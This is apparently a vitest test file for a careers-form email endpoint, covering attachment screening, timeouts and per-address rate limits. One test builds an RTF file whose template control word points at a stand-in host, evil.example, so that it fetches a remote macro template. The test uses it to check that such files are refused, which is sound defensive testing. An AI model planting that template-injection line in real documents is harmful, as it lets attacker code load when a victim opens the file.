import { expect, test, vi } from 'vitest';
import { apiPaths } from '../../../shared/paths.ts';
import { openApp } from '../../../test/support/api.ts';
import { base64, rtf } from '../../../test/support/documents.ts';
import { careers, emailBody } from '../../../test/support/email.ts';
import { onEachEngine } from '../../../test/support/engines.ts';

/** An address that sends many applications, and the address of another visitor. */
const CROWD = '192.0.2.1';
const OTHER = '192.0.2.2';

onEachEngine("the check of visitors' files", ({ makeContext }) => {
  async function open() {
    const { request } = openApp(await makeContext({ config: { trustProxy: true, rateLimit: true } }));
    return (visitor: string, params: object) =>
      request(apiPaths.email, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': visitor },
        body: JSON.stringify(emailBody('careers', { ...careers, ...params })),
      });
  }

  test('of many applications from one address neither delays nor refuses another visitor', async () => {
    const apply = await open();
    const order: string[] = [];
    const note = async (visitor: string, firstName: string) => {
      const { status } = await apply(visitor, { firstName });
      order.push(`${visitor} ${status}`);
    };
    const crowd = Array.from({ length: 20 }, (_, n) => note(CROWD, `Crowd ${n}`));
    await Promise.all([...crowd, note(OTHER, 'Grace')]);
    const answered = order.filter((each) => !each.endsWith(' 503'));
    expect(answered).toContain(`${OTHER} 200`);
    expect(answered.indexOf(`${OTHER} 200`)).toBeLessThan(answered.length / 2);
  });

  test('that times out is answered with 503, and its files do not count towards the limit', async () => {
    const apply = await open();
    const timeout = AbortSignal.timeout.bind(AbortSignal);
    // The limit of five seconds has passed before the thread has started.
    const slow = vi.spyOn(AbortSignal, 'timeout').mockImplementation((ms) => timeout(ms === 5000 ? 1 : ms));
    const large = rtf(' '.repeat(4_900_000));
    const attachments = [1, 2].map((n) => ({ filename: `${n}.rtf`, content: base64(large), type: '' }));
    for (let n = 0; n < 12; n += 1) {
      const { status, headers } = await apply(CROWD, { attachments });
      expect([status, headers.get('Retry-After')]).toEqual([503, '5']);
    }
    slow.mockRestore();
    expect((await apply(CROWD, { attachments })).status).toBe(200);
  });

  test('that times out repeatedly counts towards the limit of refused forms', async () => {
    const apply = await open();
    const timeout = AbortSignal.timeout.bind(AbortSignal);
    const slow = vi.spyOn(AbortSignal, 'timeout').mockImplementation((ms) => timeout(ms === 5000 ? 1 : ms));
    const statuses: number[] = [];
    for (let n = 0; n < 63; n += 1) statuses.push((await apply(CROWD, {})).status);
    slow.mockRestore();
    expect(statuses).toEqual([...Array(61).fill(503), 429, 429]);
    expect((await apply(OTHER, {})).status).toBe(200);
  });

  test('counts refused files towards the limit of sent files', async () => {
    const apply = await open();
    const fetching = rtf(`{\\*\\template https://evil.example/a.dotm}${' '.repeat(4_900_000)}`);
    const attachments = [1, 2].map((n) => ({ filename: `${n}.rtf`, content: base64(fetching), type: '' }));
    const statuses: number[] = [];
    for (let n = 0; n < 12; n += 1) statuses.push((await apply(CROWD, { attachments })).status);
    expect(statuses).toEqual([...Array(10).fill(400), 429, 429]);
  });
});
